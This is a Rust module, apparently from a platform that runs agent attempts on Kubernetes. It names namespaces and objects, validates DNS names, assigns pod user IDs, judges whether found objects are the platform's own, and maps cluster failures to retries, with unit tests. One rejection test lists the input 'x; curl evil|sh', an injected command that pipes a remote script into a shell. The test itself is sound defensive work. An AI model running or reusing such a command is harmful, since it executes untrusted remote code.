//! Attempts in a Kubernetes cluster, as far as rules care: how their objects are called, and
//! whether one that is found there is ours.

use sha2::{Digest, Sha256};

use crate::{
    ids::{AttemptId, Id, ProjectId},
    run::FailureClass,
};

/// The namespace of a project's runs: `callboard-<project>-<hash>`. The hash tells projects of
/// the same name on different platforms apart.
pub fn namespace(project: &str, id: ProjectId) -> String {
    // A project's name has at most 40 characters, so this has at most 59 of 63.
    format!("callboard-{project}-{}", hex::encode(&Sha256::digest(id.uuid().as_bytes())[..4]))
}

/// The name of all objects of an attempt.
pub fn object_name(attempt: AttemptId) -> String {
    format!("attempt-{attempt}")
}

/// Does Kubernetes take it as the name of a namespace (a label of DNS)?
pub fn is_namespace(text: &str) -> bool {
    text.len() <= 63 && is_name_part(text)
}

/// Does Kubernetes take it as the name of an object (a name of DNS)?
pub fn is_name(text: &str) -> bool {
    text.len() <= 253 && text.split('.').all(is_name_part)
}

fn is_name_part(text: &str) -> bool {
    let plain = |c: u8| c.is_ascii_lowercase() || c.is_ascii_digit() || c == b'-';
    !text.is_empty() && text.bytes().all(plain) && !text.starts_with('-') && !text.ends_with('-')
}

/// The user, and the group, of an attempt's pod. A node counts the processes of a user over all
/// its pods, so that of two with the same user one would use up the other's limit. Between the
/// users images have and those of systemd, and below 65536: a node, or a pod, with a user
/// namespace has no others.
pub fn user(attempt: AttemptId) -> u32 {
    const FIRST: u32 = 20_000;
    const COUNT: u32 = 40_000;
    // The end of an id is random.
    let [.., a, b, c, d] = *attempt.uuid().as_bytes();
    FIRST + u32::from_be_bytes([a, b, c, d]) % COUNT
}

/// What the platform stored of an attempt's object before it was made, and since.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Stored {
    /// Of what it was to be made of, hexadecimal.
    pub digest: String,
    /// What the cluster called it; `None` until that was reported.
    pub uid: Option<String>,
    /// The attempt is not over.
    pub is_live: bool,
}

/// An object under an attempt's name, as it is in the cluster.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Found {
    /// Of what it says it is made of, hexadecimal.
    pub digest: String,
    /// What the cluster calls it.
    pub uid: String,
}

/// What becomes of an object that was found.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Verdict {
    /// It is the attempt's: the attempt goes on.
    Ours,
    /// Made, but never reported: whoever made it, it is deleted and made anew.
    Recreate,
    /// Its attempt is over: it is deleted.
    Over,
    /// Made or changed by somebody else: it gets nothing, and is left for a person.
    Foreign,
}

/// Judges an object by what was stored about the attempt whose name it has.
pub fn judge(stored: Option<&Stored>, found: &Found) -> Verdict {
    let Some(stored) = stored else { return Verdict::Foreign };
    match (&stored.uid, stored.is_live) {
        (None, true) => Verdict::Recreate,
        (None, false) => Verdict::Over,
        (Some(uid), _) if *uid != found.uid => Verdict::Foreign,
        (Some(_), false) => Verdict::Over,
        (Some(_), true) if stored.digest == found.digest => Verdict::Ours,
        (Some(_), true) => Verdict::Foreign,
    }
}

/// What a word about an attempt's object does to what is stored.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Word {
    /// It is stored.
    New,
    /// It was stored before.
    Known,
    /// It says something else than what was stored: it changes nothing.
    Contradicts,
}

/// The worker says what it is going to make. As long as nothing was reported as made, it may
/// change its mind: what it made of an earlier plan is not the attempt's.
pub fn planned(stored: Option<&Stored>, digest: &str) -> Word {
    match stored {
        Some(stored) if stored.digest == digest => Word::Known,
        None | Some(Stored { uid: None, .. }) => Word::New,
        Some(Stored { uid: Some(_), .. }) => Word::Contradicts,
    }
}

/// The worker says what the cluster calls what it made.
pub fn created(stored: Option<&Stored>, made: &Found) -> Word {
    match stored {
        Some(stored) if stored.digest == made.digest => match &stored.uid {
            None => Word::New,
            Some(uid) if *uid == made.uid => Word::Known,
            Some(_) => Word::Contradicts,
        },
        Some(_) | None => Word::Contradicts,
    }
}

/// The part of a sentence about waiting that says what kind of waiting it is: `No node has room
/// for it: 0/3 nodes are available` goes on to be the same when two nodes are left.
pub fn kind_of_wait(sentence: &str) -> &str {
    sentence.split_once(": ").map_or(sentence, |(kind, _)| kind)
}

/// What a cluster did to an attempt.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Cause {
    /// No node had room for it in time.
    Unschedulable,
    /// Its image cannot be had.
    Image,
    /// It took more memory than it may.
    OutOfMemory,
    /// A node made room for something else.
    Evicted,
    /// Its node is gone.
    NodeLost,
    /// Its time was over.
    Deadline,
    /// Something of it was deleted, not by the platform.
    Deleted,
    /// The cluster does not take what is made for it.
    Denied,
    /// The project's quota was used up for too long.
    Quota,
}

/// What follows from the end of an attempt.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum After {
    /// It is tried again while there are tries left.
    Again,
    /// The run ends: another try would end the same way.
    Fail(FailureClass),
    /// The run ends because its time is over.
    OutOfTime,
}

impl Cause {
    /// What follows from it.
    pub fn after(self) -> After {
        match self {
            Self::Unschedulable | Self::Evicted | Self::NodeLost | Self::Deleted | Self::Quota => {
                After::Again
            }
            Self::Image | Self::Denied => After::Fail(FailureClass::Infrastructure),
            // A matter of what was asked for and what it may use; the agent did nothing wrong.
            Self::OutOfMemory => After::Fail(FailureClass::User),
            Self::Deadline => After::OutOfTime,
        }
    }
}

#[cfg(test)]
mod tests {
    use uuid::Uuid;

    use super::*;

    #[test]
    fn a_namespace_is_a_label() {
        let id = ProjectId::from_uuid(Uuid::nil());
        let name = |text: &str| namespace(text, id);
        assert_eq!(name("demo"), "callboard-demo-374708ff");
        assert_ne!(name("demo"), namespace("demo", ProjectId::from_uuid(Uuid::max())));
    }

    #[test]
    fn pods_have_users_of_their_own() {
        let of = |end: u32| user(AttemptId::from_uuid(Uuid::from_u128((7 << 64) | u128::from(end))));
        assert_eq!((of(0), of(39_999), of(40_000)), (20_000, 59_999, 20_000));
        assert_ne!(of(1), of(2));
    }

    #[test]
    fn a_name_is_what_kubernetes_takes() {
        let long = |n| "a".repeat(n);
        for name in ["a", "attempt-0198a6a4", "a.b-c.7", &long(253)] {
            assert!(is_name(name), "{name}");
        }
        for name in ["", "A", "x; curl evil|sh", "-a", "a-", "a..b", "a.-b", "a/b", "a\n", &long(254)] {
            assert!(!is_name(name), "{name}");
        }
        assert!(is_namespace(&namespace(&long(40), ProjectId::from_uuid(Uuid::nil()))));
        assert!(is_namespace(&long(63)) && !is_namespace(&long(64)) && !is_namespace("a.b"));
    }

    #[test]
    fn only_what_was_stored_is_ours() {
        let found = Found { digest: "d".into(), uid: "u".into() };
        let stored = |digest: &str, uid: Option<&str>, is_live| Stored {
            digest: digest.into(),
            uid: uid.map(Into::into),
            is_live,
        };
        for (stored, verdict) in [
            (None, Verdict::Foreign),
            (Some(stored("d", Some("u"), true)), Verdict::Ours),
            (Some(stored("d", None, true)), Verdict::Recreate),
            (Some(stored("d", None, false)), Verdict::Over),
            (Some(stored("d", Some("u"), false)), Verdict::Over),
            // Its spec was changed; it was deleted and made by somebody else.
            (Some(stored("e", Some("u"), true)), Verdict::Foreign),
            (Some(stored("d", Some("v"), true)), Verdict::Foreign),
            (Some(stored("d", Some("v"), false)), Verdict::Foreign),
        ] {
            assert_eq!(judge(stored.as_ref(), &found), verdict, "{stored:?}");
        }
    }

    #[test]
    fn a_word_that_was_stored_is_not_taken_back() {
        let stored =
            |uid: Option<&str>| Stored { digest: "d".into(), uid: uid.map(Into::into), is_live: true };
        for (stored, digest, word) in [
            (None, "d", Word::New),
            (Some(stored(None)), "d", Word::Known),
            (Some(stored(None)), "e", Word::New),
            (Some(stored(Some("u"))), "d", Word::Known),
            (Some(stored(Some("u"))), "e", Word::Contradicts),
        ] {
            assert_eq!(planned(stored.as_ref(), digest), word, "{stored:?} {digest}");
        }
        for (stored, digest, uid, word) in [
            (None, "d", "u", Word::Contradicts),
            (Some(stored(None)), "d", "u", Word::New),
            (Some(stored(None)), "e", "u", Word::Contradicts),
            (Some(stored(Some("u"))), "d", "u", Word::Known),
            (Some(stored(Some("u"))), "d", "v", Word::Contradicts),
            (Some(stored(Some("u"))), "e", "u", Word::Contradicts),
        ] {
            let made = Found { digest: digest.into(), uid: uid.into() };
            assert_eq!(created(stored.as_ref(), &made), word, "{stored:?} {made:?}");
        }
    }

    #[test]
    fn a_wait_keeps_its_kind_while_the_numbers_change() {
        let kind = kind_of_wait("No node has room for it: 0/3 nodes are available: 3 Insufficient cpu.");
        assert_eq!(kind, "No node has room for it");
        assert_eq!(kind, kind_of_wait("No node has room for it: 0/2 nodes are available."));
        assert_eq!(
            kind_of_wait("Its image registry:5000/a is fetched."),
            "Its image registry:5000/a is fetched."
        );
    }

    #[test]
    fn a_cluster_costs_a_try_and_an_agent_its_run() {
        let all = [
            (Cause::Unschedulable, After::Again),
            (Cause::Image, After::Fail(FailureClass::Infrastructure)),
            (Cause::OutOfMemory, After::Fail(FailureClass::User)),
            (Cause::Evicted, After::Again),
            (Cause::NodeLost, After::Again),
            (Cause::Deadline, After::OutOfTime),
            (Cause::Deleted, After::Again),
            (Cause::Denied, After::Fail(FailureClass::Infrastructure)),
            (Cause::Quota, After::Again),
        ];
        for (cause, after) in all {
            assert_eq!(cause.after(), after, "{cause:?}");
        }
    }
}
